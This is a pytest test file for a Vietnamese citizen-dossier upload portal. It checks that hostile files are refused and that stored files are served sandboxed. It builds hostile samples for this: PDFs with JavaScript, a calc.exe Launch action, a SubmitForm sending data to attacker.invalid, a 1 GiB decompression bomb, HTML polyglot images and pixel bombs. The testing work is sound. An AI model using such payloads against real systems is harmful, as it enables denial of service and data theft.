"""Hostile uploads (issue 8, point 10): PDFs with active content or decompression bombs,
polyglots, pixel bombs — refused with a specific Vietnamese reason, on the page and in the API,
and nothing stored; and a citizen's file is never served as something a browser would run."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from portal.dossiers import services
from portal.dossiers.models import Attachment
from tests.dossiers.conftest import make_image_bytes, make_pdf_bytes, valid_absence_form

pytestmark = pytest.mark.django_db
BASE = "/api/v1/dossiers/"
HTML = b"<html><body><script>fetch('/api/v1/dossiers/').then(r => r.text())</script></body></html>"


# --- hostile samples ---------------------------------------------------------------------------


def _write(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf(mutate) -> bytes:
    """A one-page PDF written by pypdf, after `mutate(writer, page)` changed its structure."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    mutate(writer, page)
    return _write(writer)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def pdf_open_action_js() -> bytes:
    return _pdf(lambda w, p: w.add_open_action(JavaScript("app.alert('xin chao')")))


def pdf_names_tree_js() -> bytes:
    def mutate(writer, page):
        js = writer._add_object(_action("/JavaScript", JS="app.launchURL('http://x')"))
        tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), js])})
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(tree)}
        )

    return _pdf(mutate)


def pdf_page_aa_launch() -> bytes:
    def mutate(writer, page):
        page[NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): _action("/Launch", F="C:\\Windows\\System32\\calc.exe")}
        )

    return _pdf(mutate)


def pdf_open_action_submit_form() -> bytes:
    def mutate(writer, page):
        writer._root_object[NameObject("/OpenAction")] = _action(
            "/SubmitForm", F="http://attacker.invalid/collect"
        )

    return _pdf(mutate)


def pdf_embedded_file() -> bytes:
    return _pdf(lambda w, p: w.add_attachment("hoa-don.exe", b"MZ\x90\x00 not really a program"))


def pdf_rich_media() -> bytes:
    def mutate(writer, page):
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/RichMedia"),
                NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return _pdf(mutate)


def pdf_xfa_form() -> bytes:
    def mutate(writer, page):
        xfa = DecodedStreamObject()
        xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
            {
                NameObject("/Fields"): ArrayObject(),
                NameObject("/XFA"): writer._add_object(xfa),
            }
        )

    return _pdf(mutate)


def _deflate_zeros(total: int) -> bytes:
    """zlib data that inflates to `total` zero bytes, built chunk by chunk."""
    compressor, chunk, parts = zlib.compressobj(9), bytes(1 << 20), []
    for _ in range(total // len(chunk)):
        parts.append(compressor.compress(chunk))
    parts.append(compressor.flush())
    return b"".join(parts)


_BOMB: list[bytes] = []


def pdf_bomb() -> bytes:
    """A PDF of a few KB whose page content inflates to 1 GiB (deflated twice)."""
    if not _BOMB:
        twice = zlib.compress(_deflate_zeros(1 << 30), 9)

        def mutate(writer, page):
            content = DecodedStreamObject()
            content.set_data(twice)
            content[NameObject("/Filter")] = ArrayObject(
                [NameObject("/FlateDecode"), NameObject("/FlateDecode")]
            )
            page[NameObject("/Contents")] = writer._add_object(content)

        _BOMB.append(_pdf(mutate))
    return _BOMB[0]


def pdf_with_text(text: str) -> bytes:
    """An ordinary PDF whose page content is Flate-compressed (must be accepted)."""

    def mutate(writer, page):
        content = DecodedStreamObject()
        content.set_data(f"BT /F1 12 Tf 20 100 Td ({text}) Tj ET\n".encode() * 500)
        page[NameObject("/Contents")] = writer._add_object(content.flate_encode())

    return _pdf(mutate)


def pdf_huge_image() -> bytes:
    """A PDF whose page shows a 400-megapixel JPEG (the viewer would decode it)."""

    def mutate(writer, page):
        image = DecodedStreamObject()
        image.set_data(make_image_bytes("JPEG"))
        image.update(
            {
                NameObject("/Type"): NameObject("/XObject"),
                NameObject("/Subtype"): NameObject("/Image"),
                NameObject("/Width"): NumberObject(20_000),
                NameObject("/Height"): NumberObject(20_000),
                NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
                NameObject("/BitsPerComponent"): NumberObject(8),
                NameObject("/Filter"): NameObject("/DCTDecode"),
            }
        )
        page[NameObject("/Resources")] = DictionaryObject(
            {
                NameObject("/XObject"): DictionaryObject(
                    {NameObject("/Im0"): writer._add_object(image)}
                )
            }
        )

    return _pdf(mutate)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that announces width × height pixels (Pillow itself calls it a bomb at open)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _chunk(b"IEND", b"")
    )


def png_pixels(width: int, height: int) -> bytes:
    """A valid greyscale PNG of width × height pixels (all black), built without the pixels."""
    chunk = _chunk
    compressor, row, parts = zlib.compressobj(9), bytes(width + 1), []
    for _ in range(height):
        parts.append(compressor.compress(row))
    parts.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", b"".join(parts))
        + chunk(b"IEND", b"")
    )


HOSTILE = [
    ("mo-la-chay.pdf", pdf_open_action_js, "pdf_javascript", "JavaScript"),
    ("javascript-names.pdf", pdf_names_tree_js, "pdf_javascript", "JavaScript"),
    ("launch.pdf", pdf_page_aa_launch, "pdf_launch_action", "Launch"),
    ("submit.pdf", pdf_open_action_submit_form, "pdf_form_action", "SubmitForm"),
    ("dinh-kem.pdf", pdf_embedded_file, "pdf_embedded_file", "tệp khác nhúng"),
    ("richmedia.pdf", pdf_rich_media, "pdf_rich_media", "đa phương tiện"),
    ("xfa.pdf", pdf_xfa_form, "pdf_xfa_form", "XFA"),
    ("bom.pdf", pdf_bomb, "pdf_too_large_decoded", "khi giải nén"),
    (
        "trang-web.pdf",
        lambda: HTML + b"\n" + make_pdf_bytes(),
        "pdf_header_not_at_start",
        "trước phần đầu PDF",
    ),
    ("anh.jpg", lambda: make_image_bytes("JPEG") + HTML, "image_polyglot", "mã trang web"),
    ("anh.png", lambda: make_image_bytes("PNG") + HTML, "image_polyglot", "mã trang web"),
    ("169mp.png", lambda: png_pixels(13_000, 13_000), "image_too_large", "169 megapixel"),
    ("900mp.png", lambda: png_header_only(30_000, 30_000), "image_too_large", "900 megapixel"),
    ("anh-lon.pdf", pdf_huge_image, "pdf_image_too_large", "400 megapixel"),
]


# --- the API and the page refuse them, with the reason, and store nothing ------------------------


@pytest.fixture
def api(citizen):
    from rest_framework.test import APIClient

    client = APIClient()
    client.force_authenticate(citizen)
    return client


@pytest.fixture
def draft(citizen, procedure, area, unit):
    return services.create_draft(
        citizen=citizen, procedure=procedure, area=area, form_data=valid_absence_form()
    )


def _stored_files() -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.mark.parametrize(("name", "build", "code", "reason"), HOSTILE)
def test_api_refuses_hostile_file_with_its_reason_and_stores_nothing(
    api, draft, name, build, code, reason
):
    response = api.post(
        f"{BASE}{draft.code}/attachments/",
        {"file": SimpleUploadedFile(name, build()), "requirement_key": "to-khai"},
        format="multipart",
    )
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == code
    assert name in body["message"] and reason in body["message"]
    assert not Attachment.objects.exists()
    assert _stored_files() == []


@pytest.mark.parametrize(
    ("name", "build", "code", "reason"),
    [h for h in HOSTILE if h[2] in ("pdf_javascript", "image_polyglot", "image_too_large")][::2],
)
def test_page_shows_the_reason_next_to_the_file(client, citizen, draft, name, build, code, reason):
    client.force_login(citizen)
    response = client.post(
        reverse("dossiers:edit", kwargs={"code": draft.code}),
        {
            "area": draft.area.pk,
            "result_method": "in_person",
            "result_address": "",
            **{f"f-{k}": v for k, v in valid_absence_form().items()},
            "action": "save",
            "file_to-khai": SimpleUploadedFile(name, build()),
        },
    )
    html = response.content.decode()
    block = html.split('id="req-to-khai"')[1].split('id="req-')[0]
    assert reason in block and name in block
    assert not Attachment.objects.exists()
    assert _stored_files() == []


def test_pixel_bomb_is_refused_from_the_header_without_decoding(api, draft, monkeypatch):
    from PIL import ImageFile

    def no_decoding(self):  # decoding 169 megapixels would cost 169 MB of memory
        raise AssertionError("the image was decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", no_decoding)
    response = api.post(
        f"{BASE}{draft.code}/attachments/",
        {"file": SimpleUploadedFile("scan.png", png_pixels(13_000, 13_000))},
        format="multipart",
    )
    assert response.json()["code"] == "image_too_large"


def test_ordinary_files_are_still_accepted(api, draft):
    """Compressed page content, a large-but-allowed photo, a phone's motion photo (a video after
    the JPEG) and a PNG with padding after its end are all accepted."""
    motion_photo = make_image_bytes("JPEG") + b"\x00\x00\x00\x18ftypmp42" + bytes(2000)
    for name, content in [
        ("to-khai.pdf", pdf_with_text("Nguyen Van A")),
        ("to-khai-2.pdf", make_pdf_bytes()),
        ("chup.png", png_pixels(8000, 6000)),  # 48 MP: a full-resolution phone photo
        ("chuyen-dong.jpg", motion_photo),
    ]:
        response = api.post(
            f"{BASE}{draft.code}/attachments/",
            {"file": SimpleUploadedFile(name, content)},
            format="multipart",
        )
        assert response.status_code == 201, (name, response.json())
    # what follows the end of an image is not kept: only the image itself is stored
    stored = Attachment.objects.get(original_name="chuyen-dong.jpg")
    assert stored.file.read() == make_image_bytes("JPEG")
    assert stored.size == len(make_image_bytes("JPEG"))


# --- a citizen's file is never served as something that runs -----------------------------------


@pytest.fixture
def image_attachment(draft, citizen):
    return services.add_attachment(
        dossier=draft,
        actor=citizen,
        uploaded_file=SimpleUploadedFile("anh.png", make_image_bytes("PNG")),
    )


def _assert_inert(response, *, download: bool) -> None:
    assert response.status_code == 200
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = response["Content-Security-Policy"]
    assert policy.startswith("sandbox") and "default-src 'none'" in policy
    assert "html" not in response["Content-Type"]
    if download:
        assert response["Content-Disposition"].startswith("attachment")


def test_citizen_download_and_api_serve_files_sandboxed(
    client, api, citizen, draft, image_attachment
):
    client.force_login(citizen)
    page = client.get(
        reverse(
            "dossiers:attachment", kwargs={"code": draft.code, "attachment_id": image_attachment.pk}
        )
    )
    _assert_inert(page, download=True)
    _assert_inert(api.get(f"{BASE}{draft.code}/attachments/{image_attachment.pk}/"), download=True)


def test_a_file_recorded_as_html_is_still_not_served_as_html(
    client, api, citizen, draft, image_attachment
):
    Attachment.objects.filter(pk=image_attachment.pk).update(content_type="text/html")
    client.force_login(citizen)
    page = client.get(
        reverse(
            "dossiers:attachment", kwargs={"code": draft.code, "attachment_id": image_attachment.pk}
        )
    )
    _assert_inert(page, download=True)
    assert page["Content-Type"] == "application/octet-stream"
    api_response = api.get(f"{BASE}{draft.code}/attachments/{image_attachment.pk}/")
    _assert_inert(api_response, download=True)
